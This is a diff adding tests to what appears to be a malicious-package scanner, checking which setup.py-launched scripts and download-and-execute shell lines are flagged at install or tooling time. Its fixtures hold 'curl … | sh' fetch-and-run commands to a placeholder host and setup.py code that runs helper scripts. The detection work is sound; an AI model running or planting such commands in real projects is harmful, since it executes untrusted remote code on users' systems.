@@ -252,6 +252,18 @@ def test_module_imported_by_setup_py_runs_only_what_setup_py_calls(tmp_path: Pat
     assert ("PY-INSTALL-PROCESS", 6, "install") in found, found
 
 
+def test_a_script_setup_py_names_runs_at_install(tmp_path: Path) -> None:
+    run = "here = os.path.dirname(__file__)\nsubprocess.call([sys.executable, os.path.join(here, 'tools', 'gen-docs.py')])\n"
+    files = {
+        "demo-1.0/setup.py": SETUP + "import os, subprocess, sys\n" + run + "setup()\n",
+        "demo-1.0/tools/gen-docs.py": "import os\nos.system('id')\n",
+        "demo-1.0/build.sh": "curl -fsSL https://example.invalid/x.sh | sh\n",
+    }
+    found = {(f.rule, f.file.split("/", 1)[1], f.reachability) for f in _scan(tmp_path, files)}
+    assert ("PY-INSTALL-PROCESS", "tools/gen-docs.py", "install") in found, found
+    assert ("CNT-DOWNLOAD-EXEC", "build.sh", "test") in found, found  # not named: tooling
+
+
 def test_in_tree_backend_and_installation_entry_point_run_at_install(tmp_path: Path) -> None:
     files = {
         "demo-1.0/pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\n'
@@ -333,6 +345,10 @@ def test_sdist_tooling_is_not_import_time(tmp_path: Path) -> None:
     files["demo-1.0/runtests.py"] = "import os\nos.system('id')\n"
     for d in ("vendored-tool/tool/manual tests/1 bundle", "vendored-tool/tool/test cases/2 gen"):
         files[f"demo-1.0/{d}/x.py"] = "import os\nos.system('id')\n"
+    files["demo-1.0/vendored-buildsys/ci/image/install.sh"] = (
+        "curl https://example.invalid/i | sh\n"
+    )
+    files["demo-1.0/demo/src/simd-sort/run-bench.py"] = "import os\nos.system('id')\n"
     files["demo-1.0/crates/demo_core/Cargo.toml"] = "[package]\nname = 'demo_core'\n"
     files["demo-1.0/crates/demo_core/generate.py"] = "import os\nos.system('id')\n"
     # task runners and shell scripts of the repository: a maintainer's `curl … | sh`
@@ -345,6 +361,7 @@ def test_sdist_tooling_is_not_import_time(tmp_path: Path) -> None:
     assert {f.file.split("/", 1)[1] for f in findings if f.rule == "CNT-DOWNLOAD-EXEC"} == {
         "Makefile",
         "build-docs.sh",
+        "vendored-buildsys/ci/image/install.sh",
     }
     assert scoring.verdict(findings)[0] == "clean"
     # the same code inside the package is import time
